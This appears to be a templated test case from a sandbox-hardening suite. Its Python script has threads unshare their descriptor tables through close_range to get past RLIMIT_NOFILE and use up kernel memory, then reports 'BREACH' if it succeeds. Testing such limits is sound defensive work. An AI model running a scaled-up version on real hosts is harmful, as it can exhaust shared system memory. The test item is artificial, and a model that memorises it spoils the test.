# attack: kernel memory, by threads that take a table of open descriptors of their own, each with a limit of its own
# wanted: OK
# after: the machine's memory is as before
# wall: seccomp (flags of close_range); RLIMIT_NOFILE
# control: breach
import ctypes
import os
import threading

print("REACHED", flush=True)
UNSHARE = 2
libc = ctypes.CDLL(None, use_errno=True)
threading.stack_size(64 << 10)
opened = []
done = threading.Event()
ready = threading.Barrier(9)


def open_many():
    libc.syscall(@SYS_close_range@, 3, 1 << 20, UNSHARE)
    try:
        for _ in range(60):
            opened.append(os.dup(0))
    except OSError:
        pass
    ready.wait()
    done.wait()


threads = [threading.Thread(target=open_many) for _ in range(8)]
for thread in threads:
    thread.start()
ready.wait()
print(len(opened), "descriptors")
if len(set(opened)) < len(opened):
    print("BREACH: the same numbers in several tables", flush=True)
done.set()
